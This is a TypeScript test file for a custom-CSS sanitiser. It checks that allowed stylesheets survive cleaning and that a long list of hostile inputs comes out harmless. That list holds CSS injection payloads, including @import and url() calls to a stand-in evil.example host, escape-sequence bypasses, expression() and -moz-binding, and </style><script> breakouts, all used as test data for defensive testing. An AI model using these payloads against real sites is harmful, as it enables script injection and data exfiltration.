import fc from 'fast-check';
import { generate, parse } from 'css-tree';
import { expect, it } from 'vitest';
import { presets } from '#shared/sites/presets.ts';
import { checkCustomCss } from './custom-css.ts';

/** What a stylesheet must never contain, in any spelling. */
const leaves = new RegExp(
  [
    String.raw`url\s*\(`,
    String.raw`src\s*\(`,
    'image-set',
    '@import',
    '@font-face',
    '@charset',
    '@namespace',
    String.raw`expression\s*\(`,
    String.raw`[{;]\s*(?:-moz-binding|behavior)\s*:`,
    '</',
    '<!--',
    String.raw`\\`,
  ].join('|'),
  'i',
);

function expectSafe(css: string): void {
  expect(css).not.toMatch(leaves);
  // All strings and brackets are closed, so that a following rule stands alone.
  const open: string[] = [];
  for (const [sign] of css.replace(/"[^"\n]*"/g, '').matchAll(/[(){}[\]"']/g)) {
    expect(sign, css).not.toMatch(/["']/);
    if ('({['.includes(sign)) open.push(sign);
    else expect(open.pop(), css).toBe({ ')': '(', '}': '{', ']': '[' }[sign]);
  }
  expect(open, css).toEqual([]);
  const after = '.after-all-of-it{color:red}';
  const tree = parse(`${css}\n${after}`);
  expect(
    tree.type === 'StyleSheet' && tree.children.last ? generate(tree.children.last) : '',
    css,
  ).toBe(after);
}

it.each(presets.map(({ id, theme }) => [id, theme.customCss] as const))(
  'accepts all rules of the preset %s',
  (_, css) => {
    const checked = checkCustomCss(css);
    expect(checked).toEqual({ css: generate(parse(css)), problems: [] });
    expect(checked.css.match(/[^{};]+:[^;}]+/g)?.length ?? 0).toBe(
      css.match(/[\w-]+:\s[^;]+;/g)?.length ?? 0,
    );
    expectSafe(checked.css);
  },
);

it('finds rules in at least two presets', () => {
  expect(
    presets.filter(({ theme }) => theme.customCss.trim() !== '').length,
  ).toBeGreaterThanOrEqual(2);
});

it.each([
  ['.a { color: red; }', '.a{color:red}'],
  [
    '.a, .b > c ~ d:hover::before { margin: 0 auto !important }',
    '.a,.b>c~d:hover::before{margin:0 auto!important}',
  ],
  [
    'a:is(b, c):not(:first-child):nth-child(2n + 1) { color: #0a6b5c }',
    'a:is(b,c):not(:first-child):nth-child(2n + 1){color:#0a6b5c}',
  ],
  [
    'input[type="search"] { width: calc(100% - 2rem) }',
    'input[type="search"]{width:calc(100% - 2rem)}',
  ],
  [
    '@media (min-width: 640px) { .a { display: none } }',
    '@media (min-width:640px){.a{display:none}}',
  ],
  [
    '@supports (display: grid) { .a { display: grid } }',
    '@supports (display:grid){.a{display:grid}}',
  ],
  [
    '.a { color: var(--primary); background: linear-gradient(rgb(0 0 0), hsl(0 0% 0%)) }',
    '.a{color:var(--primary);background:linear-gradient(rgb(0 0 0),hsl(0 0% 0%))}',
  ],
  [
    '.a::after { content: "§ " attr(title) counter(x) }',
    '.a::after{content:"§ " attr(title) counter(x)}',
  ],
  ['.a { &:hover { color: red } }', '.a{&:hover{color:red}}'],
  ['/* a remark */ .a { /* another */ color: red } /* and the last', '.a{color:red}'],
  ['.a { color: red', '.a{color:red}'],
  ['', ''],
])('writes %j as %j without a problem', (input, expected) => {
  const { css, problems } = checkCustomCss(input);
  expect(css.replace(/\s+/g, '')).toBe(expected.replace(/\s+/g, ''));
  expect(problems).toEqual([]);
  expectSafe(css);
});

// Attacks with known escapes and bypasses.
const hostile = [
  '@import url(https://evil.example/a.css);',
  '@import "https://evil.example/a.css";',
  "@import'//evil.example/a.css'",
  '@IMPORT url(//evil.example);',
  '@im\\port "//evil.example";',
  '@\\69mport "//evil.example";',
  '@charset "utf-7";',
  '@namespace url(//evil.example);',
  '@layer x;',
  '@container (width > 1px) { a { color: red } }',
  '@page { margin: 0 }',
  '@keyframes x { from { background: url(//evil.example) } }',
  '@font-face { font-family: x; src: url(https://evil.example/x.woff2) }',
  '@font-face { font-family: x; src: local("x") }',
  '@property --x { syntax: "<url>" }',
  '@counter-style x { symbols: url(//evil.example) }',
  'a { background: url(https://evil.example/x) }',
  'a { background: url("//evil.example") }',
  "a { background: url('//evil.example') }",
  'a { background: URL(//evil.example) }',
  'a { background: url(\n//evil.example) }',
  'a { background: \\75rl(//evil.example) }',
  'a { background: \\000075 rl(//evil.example) }',
  'a { background: u\\72l(//evil.example) }',
  'a { background: ur\\l(//evil.example) }',
  'a { background: u/**/rl(//evil.example) }',
  'a { background: url(data:image/svg+xml,<svg/onload=alert(1)>) }',
  'a { background: src("//evil.example") }',
  'a { background: image("//evil.example") }',
  'a { background: element(#x) }',
  'a { background: paint(x) }',
  'a { background: image-set("//evil.example" 1x) }',
  'a { background: -webkit-image-set(url(//evil.example) 1x) }',
  'a { background: cross-fade(url(//evil.example), red) }',
  'a { background: -webkit-cross-fade("//e", "//f", 1) }',
  'a { cursor: url(//evil.example), auto }',
  'a { list-style-image: url(//evil.example) }',
  'a { mask: url(//evil.example#x) }',
  'a { filter: url(//evil.example#x) }',
  'a { content: url(//evil.example) }',
  'a { clip-path: url(#x) }',
  'a { offset-path: url(#x) }',
  'a { shape-outside: url(//evil.example) }',
  'a { border-image: url(//evil.example) 1 }',
  'a { background: var(--x, url(//evil.example)) }',
  'a { background: var(--x, var(--y, url(//evil.example))) }',
  'a { --x: url(//evil.example) }',
  'a { --x: u\\72l(//evil.example) }',
  'a { --x: "</style>" }',
  'a { --x: { b: url(//evil.example) } }',
  'a { --x: expression(alert(1)) }',
  'a { -moz-binding: url(//evil.example/x.xml#x) }',
  'a { -moz-binding: none }',
  'a { -MOZ-BINDING: none }',
  'a { behavior: url(x.htc) }',
  'a { behavior: none }',
  'a { BEHAVIOR: none }',
  'a { beh\\61vior: none }',
  'a { width: expression(alert(1)) }',
  'a { width: EXPRESSION(alert(1)) }',
  'a { width: expr/**/ession(alert(1)) }',
  'a { width: e\\78pression(alert(1)) }',
  'a { color: javascript:alert(1) }',
  "a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example') }",
  'a { *zoom: 1 }',
  'a { _height: 1px }',
  '</style><script>alert(1)</script>',
  'a { } </style><script>alert(1)</script>',
  'a { content: "</style><script>alert(1)</script>" }',
  'a { content: "\\3c/style>" }',
  'a[href="</style>"] { color: red }',
  '</style\n>',
  '<!-- a { color: red } -->',
  'a { color: red; } /* </style> */ b { background: url(//evil.example) }',
  '@media (min-width: 1px) { a { background: url(//evil.example) } }',
  '@supports (background: url(//evil.example)) { a { color: red } }',
  '@supports not (x: url(//evil.example)) { a { color: red } }',
  '@media url(//evil.example) { a { color: red } }',
  'a { &:hover { background: url(//evil.example) } }',
  'a { @media (x) { background: url(//evil.example) } }',
  'a { color: red } } b { background: url(//evil.example) }',
  'a { color: red; }}}} @import "//evil.example";',
  'a { content: "x',
  'a { content: "x\n} b { background: url(//evil.example) }',
  'a { background: url(//evil.example',
  'a[b="',
  'a:not(',
  '\0',
  'a { color: red\0 }',
  '\uFEFF@import "//evil.example";',
];

it.each(hostile)('returns nothing hostile for %j', (input) => {
  const { css, problems } = checkCustomCss(input);
  expectSafe(css);
  expect(css).not.toMatch(/evil|javascript|progid/);
  // Comments and a missing end are allowed; everything else is a problem.
  if (!/^a(?:\[b="|:not\(| \{ content: "x)$/.test(input)) expect(problems).not.toEqual([]);
});

it('keeps allowed rules next to forbidden ones', () => {
  const { css, problems } = checkCustomCss(
    `@import "//evil.example"; .a { color: red; background: url(//evil.example); margin: 0 }
    .b[x="</style>"] { color: red } .c { color: blue }`,
  );
  expect(css).toBe('.a{color:red;margin:0}.c{color:blue}');
  expect(problems).toEqual([
    '@import is not allowed',
    'background has a value that is not allowed',
    'a selector is not allowed',
  ]);
});

it.each([
  '@media print{',
  '@supports (',
  'a{',
  ':not(',
  'a{b:(',
  'a{width:calc(',
  '{',
  '[',
  '"',
  '/*',
  '@',
  '\\',
  ';',
  '}',
  'a{b:var(--x,',
  '<!--',
  '.a ',
])('handles 20,000 characters of %j', (part) => {
  const { css } = checkCustomCss(part.repeat(Math.ceil(20_000 / part.length)).slice(0, 20_000));
  expect(css).not.toMatch(leaves);
});

it('returns safe and stable CSS for any input', () => {
  const pieces = fc.constantFrom(
    'a',
    '.b',
    '#c',
    '*',
    '{',
    '}',
    '(',
    ')',
    '[',
    ']',
    ':',
    ';',
    ',',
    '"',
    "'",
    '\\',
    '/',
    '*/',
    '/*',
    '<',
    '</style>',
    '<!--',
    '-->',
    '@',
    '@import',
    '@media',
    '@supports',
    '@font-face',
    'url(',
    'URL(',
    'u',
    'rl(',
    '\\75 ',
    '\\72l(',
    'image-set(',
    'expression(',
    'var(--x',
    'calc(',
    '--x',
    'color',
    'red',
    'behavior',
    '-moz-binding',
    '!important',
    '&',
    '>',
    '+',
    '~',
    '=',
    '%',
    '0',
    '1px',
    '#fff',
    ' ',
    '\n',
    '\t',
    '\f',
    '\0',
    '\u2028',
    '\uFFFD',
    '😀',
    'javascript:',
    'print',
    'and',
    'not',
    '(min-width:1px)',
    '//evil.example',
  );
  const texts = fc.oneof(
    { weight: 4, arbitrary: fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')) },
    { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  );
  fc.assert(
    fc.property(texts, (input) => {
      const { css } = checkCustomCss(input);
      expectSafe(css);
      expect(checkCustomCss(css).css).toBe(css);
    }),
    { numRuns: 2_000 },
  );
});
